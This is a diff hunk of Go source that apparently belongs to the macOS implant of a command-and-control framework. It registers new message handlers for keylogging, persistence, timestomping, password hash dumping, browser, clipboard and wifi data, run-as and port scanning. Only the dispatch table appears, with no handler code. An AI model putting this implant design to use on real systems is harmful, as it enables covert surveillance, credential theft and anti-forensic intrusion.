@@ -42,9 +42,52 @@ var (
 		pb.MsgIfconfigReq:  ifconfigHandler,
 		pb.MsgExecuteReq:   executeHandler,
 
+		pb.MsgExecuteSignalReq: executeSignalHandler,
+
 		pb.MsgScreenshotReq: screenshotHandler,
+		pb.MsgKeyloggerReq:  keyloggerHandler,
 
 		pb.MsgSideloadReq: sideloadHandler,
+
+		pb.MsgPersistInstallReq: persistInstallHandler,
+		pb.MsgPersistRemoveReq:  persistRemoveHandler,
+
+		pb.MsgReconfigReq: reconfigHandler,
+
+		pb.MsgEnvReq:      envHandler,
+		pb.MsgSetEnvReq:   setEnvHandler,
+		pb.MsgUnsetEnvReq: unsetEnvHandler,
+
+		pb.MsgWhoamiReq: whoamiHandler,
+		pb.MsgRunAsReq:  runAsHandler,
+
+		pb.MsgChmodReq:     chmodHandler,
+		pb.MsgChownReq:     chownHandler,
+		pb.MsgTimestompReq: timestompHandler,
+
+		pb.MsgSearchReq: searchHandler,
+
+		pb.MsgClipboardReq: clipboardHandler,
+
+		pb.MsgWifiReq: wifiHandler,
+
+		pb.MsgBrowserReq: browserHandler,
+
+		pb.MsgHashdumpReq: hashdumpHandler,
+
+		pb.MsgScreenshotWatchReq: screenshotWatchHandler,
+
+		pb.MsgHashReq: hashHandler,
+
+		pb.MsgDrivesReq: drivesHandler,
+
+		pb.MsgHostInfoReq: hostInfoHandler,
+
+		pb.MsgCurlReq: curlHandler,
+
+		pb.MsgPortScanReq: portScanHandler,
+
+		pb.MsgArpReq: arpHandler,
 	}
 
 	darwinPivotHandlers = map[uint32]PivotHandler{